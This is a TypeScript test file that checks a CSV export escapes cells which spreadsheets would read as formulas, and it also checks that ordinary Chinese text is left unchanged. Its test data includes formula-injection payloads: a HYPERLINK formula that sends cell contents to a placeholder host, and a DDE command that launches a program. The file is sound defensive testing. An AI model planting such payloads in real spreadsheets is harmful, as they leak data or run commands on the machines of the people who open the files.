/**
 * The 数据来源附表 CSV carries titles the clerk (or an imported file) typed. A spreadsheet treats a
 * cell starting with = + - @ as a formula, so each such cell must reach Excel/WPS as plain text.
 */
import { describe, expect, it } from 'vitest';
import { sourcesCsv, type SourceRow } from '@rules/report/sources-csv';

/** RFC 4180 parse: enough to read back what sourcesCsv wrote, cell by cell. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const s = text.replace(/^\ufeff/, '');
  for (let i = 0; i < s.length; i++) {
    const c = s[i];
    if (quoted) {
      if (c === '"' && s[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && s[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

const hostile = ['=HYPERLINK("http://x.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];

const rows: SourceRow[] = [
  {
    figureId: 'x',
    name: '=名称公式',
    display: '+3次',
    period: { from: 2023, to: 2023 },
    manual: false,
    records: hostile.map((title, n) => ({ id: `r${n}`, kind: '会议', date: '2023-01-08', title })),
  },
  { figureId: 'y', name: '@手填', display: '-1个', period: { from: 2023, to: 2023 }, manual: true, records: [] },
];

describe('数据来源附表 CSV and spreadsheet formulas', () => {
  it('no cell starts with = + - @ (or tab/CR before them); the text is kept after an apostrophe', () => {
    const cells = parseCsv(sourcesCsv(rows));
    expect(cells.length).toBe(1 + hostile.length + 1);
    for (const line of cells) for (const c of line) expect(c).not.toMatch(/^[=+\-@\t\r]/);
    const titles = cells.slice(1, 1 + hostile.length).map((l) => l[6]);
    expect(titles).toEqual(hostile.map((t) => `'${t}`));
    expect(cells[1][0]).toBe("'=名称公式");
    expect(cells[1][1]).toBe("'+3次");
    expect(cells.at(-1)!.slice(0, 2)).toEqual(["'@手填", "'-1个"]);
  });

  it('leaves ordinary text alone', () => {
    const cells = parseCsv(
      sourcesCsv([
        {
          ...rows[0],
          name: '党委会议次数',
          display: '11次',
          records: [{ id: 'r1', kind: '会议', date: '2023-01-08', title: '第1次党委会议' }],
        },
      ]),
    );
    expect(cells[1]).toEqual(['党委会议次数', '11次', '2023年', 'r1', '会议', '2023-01-08', '第1次党委会议']);
  });
});
